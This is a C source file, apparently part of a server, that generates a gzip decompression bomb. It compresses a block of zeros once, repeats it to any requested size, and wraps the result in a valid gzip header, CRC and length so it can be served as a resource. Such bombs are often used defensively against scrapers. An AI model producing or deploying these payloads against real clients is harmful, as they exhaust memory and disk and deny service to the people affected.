/*
 * Zeros compressed by gzip, as many as wanted: a block of them is compressed
 * once, and its form repeated.
 */
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#include <coget/thread.h>

#include "resource.h"

#define BLOCK_BYTES ((size_t)16 << 20)

/* What a block takes, and more than that. */
#define PACKED_MAX ((size_t)256 << 10)

/* zlib: a negative window for the bare format, without a head. */
enum { WINDOW_BITS = -15, MEMORY_LEVEL = 8 };

struct bomb {
	uint64_t size_bytes;
	char *zeros;  /* a block */
	char *packed; /* the same, so that it can be repeated */
	size_t packed_len;
	char *out;
	size_t out_len;
};

/* Returns what it has become, 0 if there is no memory. */
static size_t pack(char out[PACKED_MAX], const char *zeros, size_t len,
		   int flush)
{
	z_stream zlib = {
		.next_in = (Bytef *)zeros,
		.avail_in = (uInt)len,
		.next_out = (Bytef *)out,
		.avail_out = PACKED_MAX,
	};

	if (deflateInit2(&zlib, Z_BEST_COMPRESSION, Z_DEFLATED, WINDOW_BITS,
			 MEMORY_LEVEL, Z_DEFAULT_STRATEGY) != Z_OK)
		return 0;
	deflate(&zlib, flush);
	deflateEnd(&zlib);
	return zlib.total_out;
}

static uint32_t checksum(const struct bomb *bomb)
{
	const Bytef *zeros = (const Bytef *)bomb->zeros;
	uLong block = crc32(0, zeros, BLOCK_BYTES), crc = 0;

	for (uint64_t i = 0; i < bomb->size_bytes / BLOCK_BYTES; i++)
		crc = crc32_combine(crc, block, BLOCK_BYTES);
	return (uint32_t)crc32(crc, zeros,
			       (uInt)(bomb->size_bytes % BLOCK_BYTES));
}

static void append(struct bomb *bomb, const void *data, size_t len)
{
	memcpy(bomb->out + bomb->out_len, data, len);
	bomb->out_len += len;
}

static void append_number(struct bomb *bomb, uint32_t number)
{
	unsigned char bytes[4];

	for (int i = 0; i < 4; i++)
		bytes[i] = (unsigned char)(number >> 8 * i);
	append(bomb, bytes, sizeof(bytes));
}

/* A member of gzip (RFC 1952): its head, the blocks, the rest, CRC, length. */
static void assemble(struct bomb *bomb)
{
	static const char head[10] = "\x1f\x8b\x08\0\0\0\0\0\0\x03";

	append(bomb, head, sizeof(head));
	for (uint64_t i = 0; i < bomb->size_bytes / BLOCK_BYTES; i++)
		append(bomb, bomb->packed, bomb->packed_len);
	bomb->packed_len = pack(bomb->packed, bomb->zeros,
				(size_t)(bomb->size_bytes % BLOCK_BYTES),
				Z_FINISH);
	append(bomb, bomb->packed, bomb->packed_len);
	append_number(bomb, checksum(bomb));
	append_number(bomb, (uint32_t)bomb->size_bytes);
}

static int build(void *arg)
{
	struct bomb *bomb = arg;

	bomb->zeros = calloc(1, BLOCK_BYTES);
	bomb->packed = malloc(PACKED_MAX);
	if (bomb->zeros && bomb->packed)
		bomb->packed_len = pack(bomb->packed, bomb->zeros, BLOCK_BYTES,
					Z_FULL_FLUSH);
	if (bomb->packed_len > 0)
		bomb->out = malloc(bomb->size_bytes / BLOCK_BYTES *
					   bomb->packed_len +
				   PACKED_MAX + 64);
	if (bomb->out)
		assemble(bomb);
	free(bomb->packed);
	free(bomb->zeros);
	return bomb->out ? 0 : UV_ENOMEM;
}

int resource_bomb(struct resource *resource, uint64_t size_bytes)
{
	struct bomb bomb = {.size_bytes = size_bytes};
	int status = co_to_thread(build, &bomb);

	if (status < 0) {
		free(bomb.out);
		return status;
	}
	resource->memory = bomb.out;
	resource->len_bytes = bomb.out_len;
	return 0;
}
